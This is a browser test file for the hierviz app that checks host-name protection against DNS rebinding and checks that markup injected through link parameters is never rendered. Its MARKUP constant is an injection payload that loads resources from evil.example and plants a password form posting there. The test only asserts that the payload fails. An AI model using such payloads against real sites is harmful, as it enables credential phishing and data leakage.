"""Attacks: other sites whose name resolves to this machine, and forged links."""

from dataclasses import fields
from urllib.parse import urlencode

import pytest

from hierviz.reports.view import View
from tests.browser.conftest import WATCHDOG, Server, ready

pytestmark = pytest.mark.browser

MARKUP = (
    '"><img src=http://evil.example/a.png><style>@import "http://evil.example/b.css"; p {background: '
    "url(http://evil.example/c.png)}</style><form action=http://evil.example><input name=password></form>"
    "![x](http://evil.example/d.png)"
)


def test_a_foreign_name_shows_nothing_of_the_app(chromium, server):
    """As a page of another site would ask, once its name leads here."""
    page = chromium.new_page()
    page.set_default_timeout(WATCHDOG)
    asked = []
    page.on("websocket", lambda one: asked.append(one.url))
    for path in ("", "open", "model"):
        answer = page.goto(f"http://evil.example:{server.port}/{path}")
        assert answer.status == 403
        text = page.inner_text("body")
        assert text.strip() == (
            f"Host: expected a name of this server, got 'evil.example:{server.port}'. Open http://localhost with its port on "
            "the same machine, or start hierviz with --allow-host NAME."
        )
    assert asked == []
    # From a page of its own, it reaches neither the app nor its WebSocket.
    tried = page.evaluate(
        """async port => {
            const own = `127.0.0.1:${port}`;
            const read = await fetch(`http://${own}/open`).then(one => one.text(), error => "refused");
            const socket = await new Promise(done => {
                const one = new WebSocket(`ws://${own}/_stcore/stream`);
                one.onopen = () => done("open");
                one.onerror = () => done("refused");
            });
            return [read, socket];
        }""",
        server.port,
    )
    assert tried == ["refused", "refused"]
    page.context.close()


@pytest.fixture
def named_server(tmp_path):
    """A server that browsers elsewhere may open by a name."""
    found = Server(tmp_path / "log.txt", "--allow-host", "named.example")
    yield found
    found.stop()


@pytest.mark.long
def test_an_allowed_name_opens_the_app_without_paths(open_page, named_server):
    named = f"http://named.example:{named_server.port}"
    page = open_page("open", base=named)
    page.get_by_text("Files can be opened by path only if server and browser are on the same machine").wait_for()
    assert page.locator("[class*=st-key-path_]").count() == 0
    assert page.get_by_text("Path on this machine").count() == 0
    page.goto(f"{named}/model")
    ready(page)
    page.get_by_text("My own ONNX model").click()
    page.locator("[class*=st-key-upload_own_model]").wait_for()
    assert page.get_by_text("path on this machine").count() == 0


@pytest.mark.parametrize("path", ["open", pytest.param("example", marks=pytest.mark.long)])
def test_markup_in_a_link_is_drawn_nowhere_and_asks_nobody(open_page, path):
    """`open_page` fails on any request that leaves."""
    page = open_page(f"{path}?{urlencode({field.name: MARKUP for field in fields(View)})}")
    shown = page.locator("#hierviz-view")
    assert shown.get_attribute("data-data") == "demo"
    # What was searched for stands, encoded, in the query of the app's own links.
    assert page.locator("form[action*=evil], input[name=password], img[src*=evil], a[href*='//evil']").count() == 0
    assert "evil" not in "".join(page.locator("style").all_inner_texts())
